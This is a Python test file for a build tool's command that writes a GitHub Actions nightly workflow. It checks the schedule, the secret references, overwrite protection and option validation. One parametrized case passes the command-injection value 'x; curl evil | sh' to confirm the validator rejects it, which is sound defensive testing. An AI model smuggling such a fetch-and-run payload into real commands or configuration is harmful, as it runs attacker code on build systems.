"""`buildkit ci github`: the generated workflow is valid YAML with the schedule, secret references and command."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from buildkit.ciworkflow import WorkflowOptions, render_workflow
from buildkit.errors import ConfigError
from buildkit.render import templates_sha256
from cliutil import buildkit_env

ROOT = Path(__file__).resolve().parent.parent


def run_cli(cwd: Path, *args: str) -> subprocess.CompletedProcess:
    env = buildkit_env()
    env["REGISTRY_PASSWORD"] = "s3cret-value-never-written"
    return subprocess.run([sys.executable, "-m", "buildkit.cli", "ci", "github", *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=60)


def steps_by_name(doc: dict) -> dict[str, dict]:
    return {s["name"]: s for s in doc["jobs"]["nightly"]["steps"]}


def test_ci_github_writes_a_valid_workflow(tmp_path):
    (tmp_path / "buildkit.toml").write_text('schema_version = 1\n[image]\nname = "registry.example.com/team/llama"\n')
    proc = run_cli(tmp_path, "--cron", "30 2 * * *")
    assert proc.returncode == 0, proc.stderr
    path = tmp_path / ".github" / "workflows" / "buildkit-nightly.yml"
    text = path.read_text()
    doc = yaml.safe_load(text)
    on = doc.get("on", doc.get(True))  # YAML 1.1 reads the key `on` as true
    assert on["schedule"] == [{"cron": "30 2 * * *"}] and "workflow_dispatch" in on
    steps = steps_by_name(doc)
    uses = [s.get("uses", "") for s in doc["jobs"]["nightly"]["steps"]]
    assert any(u.startswith("actions/checkout@") for u in uses)
    assert any(u.startswith("actions/setup-python@") for u in uses)
    assert any(u.startswith("docker/setup-buildx-action@") for u in uses)
    login = next(s for s in doc["jobs"]["nightly"]["steps"] if s.get("uses", "").startswith("docker/login-action@"))
    assert login["with"] == {"registry": "registry.example.com", "username": "${{ secrets.REGISTRY_USERNAME }}",
                             "password": "${{ secrets.REGISTRY_PASSWORD }}"}
    run = steps["Nightly build"]["run"]
    assert run.startswith("buildkit nightly --config \"buildkit.toml\" --json")
    assert steps["Upload the summary"]["if"] == "always()"
    assert "s3cret-value-never-written" not in text  # references only, never values
    # unchanged on a second run; a hand-edited file is not overwritten without --force
    again = run_cli(tmp_path, "--cron", "30 2 * * *")
    assert again.returncode == 0 and again.stdout.startswith("unchanged")
    path.write_text(text + "# edited\n")
    refused = run_cli(tmp_path)
    assert refused.returncode == 1 and "--force" in refused.stderr
    assert run_cli(tmp_path, "--force", "--cron", "30 2 * * *").returncode == 0 and path.read_text() == text


def test_ghcr_uses_the_workflow_token_and_package_permission():
    text = render_workflow(WorkflowOptions(registry="ghcr.io", username_secret="GITHUB_TOKEN",
                                           password_secret="GITHUB_TOKEN"))
    doc = yaml.safe_load(text)
    login = next(s for s in doc["jobs"]["nightly"]["steps"] if s.get("uses", "").startswith("docker/login-action@"))
    assert login["with"]["username"] == "${{ github.actor }}"
    assert login["with"]["password"] == "${{ secrets.GITHUB_TOKEN }}"
    assert doc["permissions"]["packages"] == "write"


@pytest.mark.parametrize("options,message", [
    (dict(cron="every night"), "cron"),
    (dict(cron="0 3 * *"), "cron"),
    (dict(password_secret="MY-SECRET"), "secret name"),
    (dict(password_secret="GITHUB_SOMETHING"), "secret name"),
    (dict(install="x; curl evil | sh"), "--install"),
    (dict(registry="${{ secrets.X }}"), "registry"),
])
def test_bad_options_are_refused(options, message):
    with pytest.raises(ConfigError, match=message):
        render_workflow(WorkflowOptions(**{"registry": "ghcr.io", **options}))


def test_the_workflow_template_does_not_change_the_image_template_hash(tmp_path):
    """templates/ci/ is a subfolder: render.templates_sha256 hashes templates/*.j2 only."""
    templates = ROOT / "templates"
    assert (templates / "ci" / "github-nightly.yml.j2").is_file()
    copy = tmp_path / "t"
    copy.mkdir()
    for path in templates.glob("*.j2"):
        (copy / path.name).write_bytes(path.read_bytes())
    assert templates_sha256(copy) == templates_sha256(templates)
